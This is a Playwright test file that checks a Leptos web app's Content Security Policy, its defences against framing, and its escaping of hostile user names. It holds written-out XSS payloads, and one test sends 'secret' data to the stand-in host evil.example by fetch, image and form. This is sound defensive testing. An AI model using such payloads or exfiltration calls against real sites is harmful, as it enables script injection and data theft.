import { once } from "node:events";
import { type Server as HttpServer, createServer } from "node:http";
import type { AddressInfo } from "node:net";

import type { Page } from "@playwright/test";

import { expect, test } from "../support/test.ts";

const ELSEWHERE = "https://evil.example";

/** What somebody would try who got markup of theirs into a page. What runs leaves its name in `ran`. */
const INJECTED = `
  <script>(window.ran ??= []).push("inline")</script>
  <script nonce="guessed">(window.ran ??= []).push("with a nonce")</script>
  <script type="module">(window.ran ??= []).push("module")</script>
  <script src="${ELSEWHERE}/script.js"></script>
  <script src="data:text/javascript,(window.ran ??= []).push('data')"></script>
  <img src="/no/such/image" alt="" onerror="(window.ran ??= []).push('handler')">
  <iframe src="javascript:(parent.ran ??= []).push('address')" title="x"></iframe>
  <base href="${ELSEWHERE}/">`;

declare global {
  interface Window {
    ran?: string[];
  }
}

/** Everything that reaches the other site: nothing should. */
async function arrivals(page: Page) {
  const arrived: string[] = [];
  await page.route(`${ELSEWHERE}/**`, (route) => {
    arrived.push(route.request().url());
    return route.fulfill({ contentType: "text/javascript", body: "(window.ran ??= []).push('elsewhere')" });
  });
  return arrived;
}

/** Starts a server beside ours, and gives its origin. */
async function listen(server: HttpServer) {
  await once(server.listen(0, "127.0.0.1"), "listening");
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

test("nothing runs that was injected into a page, and the page goes on working", async ({ page, ada, login, quietConsole }) => {
  const arrived = await arrivals(page);
  await page.route("**/login", async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace("</body>", `${INJECTED}</body>`) });
  });
  await login.open();
  const said = () => new Set(quietConsole.map((line) => line.match(/^(Executing|Loading|Running|Setting).*Content Security Policy/)?.[1]));
  await expect.poll(said).toEqual(new Set(["Executing", "Loading", "Running", "Setting"]));
  expect(await page.evaluate(() => window.ran)).toBeUndefined();
  expect(arrived).toEqual([]);

  await page.unroute("**/login");
  await login.signIn(ada);
  await expect(page).toHaveURL("/dashboard");
  quietConsole.length = 0;
});

test("a script that runs in spite of all can fetch nothing, load no image and post no form elsewhere", async ({ page, login, quietConsole }) => {
  const arrived = await arrivals(page);
  await login.open();
  await page.evaluate(async (elsewhere) => {
    await fetch(elsewhere, { method: "POST", body: "secret", mode: "no-cors" }).catch(() => {});
    document.body.appendChild(new Image()).src = `${elsewhere}/?secret`;
    const form = document.body.appendChild(document.createElement("form"));
    Object.assign(form, { action: elsewhere, method: "post", target: "_blank" });
    form.submit();
  }, ELSEWHERE);
  for (const directive of ["connect-src", "img-src", "form-action"]) {
    await expect.poll(() => quietConsole.join()).toContain(`directive: "${directive} 'self'"`);
  }
  expect(arrived).toEqual([]);
  quietConsole.length = 0;
});

test("no other site can put the login page into a frame", async ({ page, server, quietConsole }) => {
  const around = createServer((_, answer) => {
    answer.setHeader("content-type", "text/html").end(`<iframe src="${server.origin}/login" title="x"></iframe>`);
  });
  await page.goto(await listen(around));
  await expect.poll(() => page.frames().map((frame) => frame.url())).toContain("chrome-error://chromewebdata/");
  await expect.poll(() => quietConsole.splice(0).join()).toContain("frame-ancestors 'none'");
  around.close();
});

for (const name of ["<img src=x onerror=alert(1)>", "</script><script>alert(1)</script>", "<!--<script>", "\"><svg onload=alert(1)>"]) {
  test(`the name ${JSON.stringify(name)} is text in every page that the server writes`, async ({ page, server, login, dashboard }) => {
    // What the policy has to block has got into the markup already; so it may not even complain (`quietConsole`).
    const account = server.addUser(name, "analytical engine");
    await page.route("**/*.wasm", () => new Promise(() => {}), { times: 1 });
    await page.goto("/login", { waitUntil: "commit" });
    await login.fill(name, "wrong");
    await login.submit.click({ noWaitAfter: true });
    await expect(login.alert).toHaveText("The user name, e-mail or password is wrong.");
    await expect(login.username).toHaveValue(name);
    // The wasm has read it out of the page by then.
    await expect(login.password).toBeFocused();
    await expect(login.username).toHaveValue(name);

    await login.password.fill(account.password);
    await login.submit.click();
    await expect(dashboard.heading).toHaveText(`Hello, ${name}`);
    await page.reload();
    await expect(dashboard.heading).toHaveText(`Hello, ${name}`);
    await expect(dashboard.thisDevice).toBeVisible();
    await expect(page.locator("img")).toHaveCount(0);
  });
}

test("markup gets into the page by Leptos' own sink only, and with no word that a user typed", async ({ page, server, login, dashboard }) => {
  await page.addInitScript(() => {
    const reported: string[] = [];
    Object.assign(window, { reported });
    document.addEventListener("securitypolicyviolation", (event) => reported.push(`${event.disposition} ${event.sample}`));
  });
  const account = server.addUser("<b>canary</b>", "analytical engine");
  await login.open();
  await login.signIn({ ...account, password: "wrong" });
  await expect(login.alert).not.toBeEmpty();
  await login.signIn(account);
  await expect(dashboard.thisDevice).toBeVisible();
  await dashboard.logOut();
  await expect(login.notice).toHaveText("You are signed out.");

  const reported = await page.evaluate(() => (window as unknown as { reported: string[] }).reported);
  // If there are none, the sink is gone, and Trusted Types can be enforced (ADR 6).
  expect(reported.length).toBeGreaterThan(0);
  for (const sink of reported) expect(sink).toMatch(/^report Element innerHTML\|</);
  expect(reported.join()).not.toContain("canary");
});

test.describe("under `make dev`", () => {
  const reload = createServer();
  test.use({
    settings: async ({}, use) => {
      await use({ LEPTOS_WATCH: "ON", LEPTOS_RELOAD_PORT: new URL(await listen(reload)).port });
      reload.close();
    },
  });

  test("live reload reaches its server", async ({ login }) => {
    const asked = once(reload, "upgrade");
    await login.open();
    const [request, socket] = await asked;
    expect(request.url).toBe("/live_reload");
    socket.destroy();
  });
});
